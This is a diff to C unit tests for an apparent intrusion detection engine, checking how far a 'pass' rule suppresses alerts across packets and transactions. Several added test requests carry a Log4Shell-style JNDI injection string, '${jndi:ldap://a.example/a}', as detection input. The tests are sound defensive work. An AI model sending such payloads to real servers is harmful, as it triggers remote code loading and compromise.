@@ -429,7 +429,7 @@ static void an_arrow_of_two_lines_is_both_sides_of_a_transaction(void)
 #undef WITH
 }
 
-static void a_pass_rule_silences_its_transaction(void)
+static void a_pass_rule_silences_its_packet_and_what_follows(void)
 {
     struct bench b;
     bench_start(&b, ANY "(msg:\"m\"; http.uri; content:\"/x\"; sid:1;)\n"
@@ -449,6 +449,34 @@ static void a_pass_rule_silences_its_transaction(void)
     bench_start(&b, later);
     request(&b, "GET /x/y HTTP/1.1\r\n\r\n");
     EXPECT(&b, "not passed", {1, "http.uri", NULL});
+    bench_stop(&b);
+    static const char behind[] =
+        ANY "(msg:\"m\"; http.uri; content:\"/x\"; sid:1;)\n" ANY
+            "(msg:\"m\"; jndi.class:attack; sid:2;)\n"
+            "pass http any any -> any any (msg:\"m\"; http.request_body; content:\"ours\"; "
+            "sid:3;)\n";
+    bench_start(&b, behind); /* a later buffer of the same packet, and the next transaction */
+    request(&b, "POST /x?${jndi:ldap://a.example/a} HTTP/1.1\r\n\r\n");
+    body(&b, "it is ours", BODY_TEXT);
+    expect_nothing(&b, "passed by a later buffer");
+    tx_again(&b);
+    request(&b, "POST /x HTTP/1.1\r\n\r\n");
+    expect_nothing(&b, "passed before");
+    bench_stop(&b);
+    bench_start(&b, behind); /* a later packet */
+    request(&b, "POST /x?${jndi:ldap://a.example/a} HTTP/1.1\r\n\r\n");
+    detect_settle(b.detector);
+    body(&b, "it is ours", BODY_TEXT);
+    EXPECT(&b, "too late", {2, "http.uri_param", NULL}, {1, "http.uri", NULL});
+    bench_stop(&b);
+    bench_start(&b, behind); /* a reading that was not meant silences itself alone */
+    b.tx.flags = TX_ALTERNATE;
+    request(&b, "POST /x HTTP/1.1\r\n\r\n");
+    body(&b, "it is ours", BODY_TEXT);
+    expect_nothing(&b, "itself");
+    tx_again(&b);
+    request(&b, "POST /x HTTP/1.1\r\n\r\n");
+    EXPECT(&b, "not the flow", {1, "http.uri", NULL});
     bench_stop(&b);
     bench_start(&b, ANY "(msg:\"m\"; jndi.class:attack; sid:1;)\n"
                         "pass http any any -> any any (msg:\"scanner of our own\"; jndi.callback; "
@@ -662,7 +690,8 @@ static CU_TestInfo rules[] = {
     {"hostbits are marks of an address", hostbits_are_marks_of_an_address},
     {"more marks than a flow bears are counted", more_marks_than_a_flow_bears_are_counted},
     {"sizes of the flow are asked", sizes_of_the_flow_are_asked},
-    {"a pass rule silences its transaction", a_pass_rule_silences_its_transaction},
+    {"a pass rule silences its packet and what follows",
+     a_pass_rule_silences_its_packet_and_what_follows},
     {"rules ask what a look-up came to", rules_ask_what_a_lookup_came_to},
     {"rules see one dialect", rules_see_one_dialect},
     {"rules without a test are asked of the flow", rules_without_a_test_are_asked_of_the_flow},
